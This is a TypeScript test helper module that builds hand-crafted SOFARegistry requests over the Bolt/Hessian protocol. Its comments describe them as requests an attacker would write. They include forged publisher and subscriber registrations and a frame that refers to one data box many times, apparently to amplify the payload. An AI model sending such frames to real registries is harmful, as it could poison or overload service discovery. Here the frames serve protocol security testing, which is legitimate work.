// Requests as an attacker writes them: what the protocol allows, and what no client of SOFARegistry would send.

import { encodeRequest } from "../../../src/encoding/bolt/encode.ts";
import { BOLT_CODEC, BOLT_V1 } from "../../../src/encoding/bolt/frame.ts";
import { DraftWriter } from "../../../src/encoding/hessian/draftWriter.ts";
import { encodeMessage } from "../../../src/protocols/sofa/codec/codec.ts";
import { DATA_BOX, PUBLISHER_REGISTER } from "../../../src/protocols/sofa/codec/hessianClasses.ts";
import {
  ABSENT_LIST,
  ABSENT_MAP,
  type Box,
  type SofaMessage,
  type WireForm,
} from "../../../src/protocols/sofa/codec/messages.ts";

export interface Publication {
  readonly id?: number;
  readonly service: string;
  readonly registId: string;
  readonly version?: bigint;
  readonly boxes?: readonly string[];
  readonly attributes?: ReadonlyMap<string, string>;
}

const TIMEOUT_MS = 3_000;

/** A registration of a publisher. */
export function publishFrame({ boxes = ["x"], attributes = ABSENT_MAP, ...publication }: Publication): Uint8Array {
  const dataList = boxes.map(textBox);
  return requestFrame(publication.id ?? 1, { ...publisher(publication, "REGISTER"), dataList, attributes });
}

export function unpublishFrame(publication: Publication): Uint8Array {
  return requestFrame(publication.id ?? 1, { ...publisher(publication, "UNREGISTER"), dataList: ABSENT_LIST });
}

export interface Subscription {
  readonly id?: number;
  readonly service: string;
  readonly registId: string;
  readonly zone?: string;
  readonly form?: WireForm;
  readonly acceptEncoding?: string;
}

export function subscribeFrame(subscription: Subscription): Uint8Array {
  const { id = 1, form = "hessian-draft", acceptEncoding = null, zone = ZONE } = subscription;
  const message = {
    ...base(subscription, "REGISTER"),
    kind: "subscriberRegister" as const,
    zone,
    scope: "dataCenter",
    acceptEncoding,
    acceptMulti: false,
  };
  return requestFrame(id, message, form);
}

/** A publication whose boxes are one box, which is written once and then referred to. */
export function referringFrame(publication: Publication, { box, count }: { box: string; count: number }): Uint8Array {
  const writer = new DraftWriter();
  writer.object(PUBLISHER_REGISTER);
  for (const text of [INSTANCE_ID, ZONE, "attack", publication.service, GROUP, null, publication.registId])
    writer.string(text);
  for (let field = 0; field < FIELDS_WITHOUT_VALUE; field++) writer.null();
  writer.string("REGISTER");
  writer.long(publication.version ?? 1n);
  writer.long(BigInt(Date.now()));
  writer.beginList(count);
  writer.object(DATA_BOX);
  writer.string(box);
  for (let at = 1; at < count; at++) writer.ref(FIRST_BOX);
  writer.endList();
  writer.null();
  const content = writer.out.done();
  const { className } = PUBLISHER_REGISTER;
  const head = { id: publication.id ?? 1, timeoutMs: TIMEOUT_MS, codec: BOLT_CODEC.HESSIAN, className };
  return encodeRequest(BOLT_V1, { ...head, content });
}

// clientId, dataInfoId, ip and port.
const FIELDS_WITHOUT_VALUE = 4;
// References count in the order in which values begin: the message, its list, the list's first box.
const FIRST_BOX = 2;

export const INSTANCE_ID = "DEFAULT_INSTANCE_ID";
export const GROUP = "DEFAULT_GROUP";
const ZONE = "DEFAULT_ZONE";

export function requestFrame(id: number, message: SofaMessage, form: WireForm = "hessian-draft"): Uint8Array {
  return encodeRequest(BOLT_V1, { id, timeoutMs: TIMEOUT_MS, ...encodeMessage(form, message) });
}

/** A UUID of the attacker's, told from all others by its number: ten digits, which a template can write. */
export function registIdOf(number: string): string {
  return `a77ac4e0-0000-4000-8000-00${number}`;
}

function publisher(publication: Publication, eventType: string) {
  return { ...base(publication, eventType), kind: "publisherRegister" as const };
}

function base(
  { service, registId, version = 1n }: Pick<Publication, "service" | "registId" | "version">,
  eventType: string,
) {
  return {
    dataId: service,
    instanceId: INSTANCE_ID,
    group: GROUP,
    zone: ZONE,
    appName: "attack",
    processId: null,
    registId,
    clientId: null,
    dataInfoId: null,
    ip: null,
    port: null,
    eventType,
    version,
    timestamp: BigInt(Date.now()),
    attributes: ABSENT_MAP,
  };
}

const encoder = new TextEncoder();

function textBox(text: string): Box {
  return { utf8: encoder.encode(text), units: text.length };
}
